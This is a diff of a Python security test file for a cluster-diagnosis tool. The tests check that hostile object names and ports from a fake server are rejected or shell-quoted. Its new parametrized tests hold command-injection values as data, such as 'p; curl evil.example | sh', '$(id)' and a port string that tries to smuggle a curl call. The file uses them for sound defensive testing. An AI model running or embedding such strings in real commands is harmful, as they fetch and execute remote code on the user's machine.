@@ -4,14 +4,19 @@ from __future__ import annotations
 
 import gzip
 import json
+import shlex
 import time
 from collections.abc import Callable
+from types import SimpleNamespace
+from typing import Any, cast
 
 import pytest
 
 from functions.service_export import namespaces as spaces
 from functions.verification import step as verification
 from shared import errors
+from shared.diagnosis import backend_port
+from shared.diagnosis.case import Case
 from shared.gateway.status import Vip
 from shared.google import answers, refusals
 from shared.google.answers import MOST
@@ -19,12 +24,13 @@ from shared.google.cluster_reader import ClusterReader
 from shared.google.cluster_writer import ClusterWriter
 from shared.google.container import Cluster
 from shared.google.session import REPEATS
+from shared.objects import KubeObject
 from shared.step.answer import LIMIT, answer
 from shared.step.error_outcomes import outcome_of
 from shared.step.message import Claim, Message
 from tests.security.conftest import OTHER, OWN
 from tests.security.hostile import TOKEN, HostileServer, cluster_at, endless, session
-from tests.support.live import forwarding_rules
+from tests.support.live import environment, forwarding_rules
 
 Reach = Callable[[Cluster], object]
 POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "n"}}
@@ -187,6 +193,33 @@ def test_a_list_of_something_else_is_no_answer(server: HostileServer, answer: ob
     server.answer = lambda path: (200, {}, json.dumps(answer).encode())
     with pytest.raises(errors.Transient, match="not what was asked for"):
         ClusterReader(session(), cluster_at(server.host, OWN)).list("Pod", "n")
+
+
+@pytest.mark.parametrize(
+    "name", ["p; curl evil.example | sh", "$(id)", "p\x1b[2J", "p\u202e", "P", "-p", "p'", ""]
+)
+@pytest.mark.parametrize("field", ["name", "namespace"])
+def test_a_name_that_is_none_is_no_answer(server: HostileServer, name: str, field: str) -> None:
+    """Names of a cluster's objects stand in URLs, on screens, and in the commands of fixes."""
+    found = {"items": [{"metadata": {"name": "p", "namespace": "n", field: name}}]}
+    server.answer = lambda path: (200, {}, json.dumps(found).encode())
+    with pytest.raises(errors.ApiError, match="not what was asked for"):
+        ClusterReader(session(), cluster_at(server.host, OWN)).list("Pod", "n")
+
+
+def test_a_port_that_would_end_a_command_is_quoted() -> None:
+    """An import's ports are what its cluster says."""
+    hostile = "80'; curl evil.example; '"
+    case = SimpleNamespace(project="shop-prod", wanted=environment())
+    route = {"metadata": {"name": "r", "namespace": "store"}, "spec": {}}
+    wrong: Any = [("/spec/rules/0/backendRefs/0", {"port": 1}, ("store", "store"), [hostile])]
+    words = shlex.split(
+        backend_port._fix(cast(Case, case), cast(KubeObject, route), wrong).partition("&& ")[2]
+    )
+
+    assert "curl" not in words
+    patch = json.loads(next(each for each in words if each.startswith("--patch=")).partition("=")[2])
+    assert patch[0]["value"] == hostile
 
 
 @pytest.mark.parametrize(
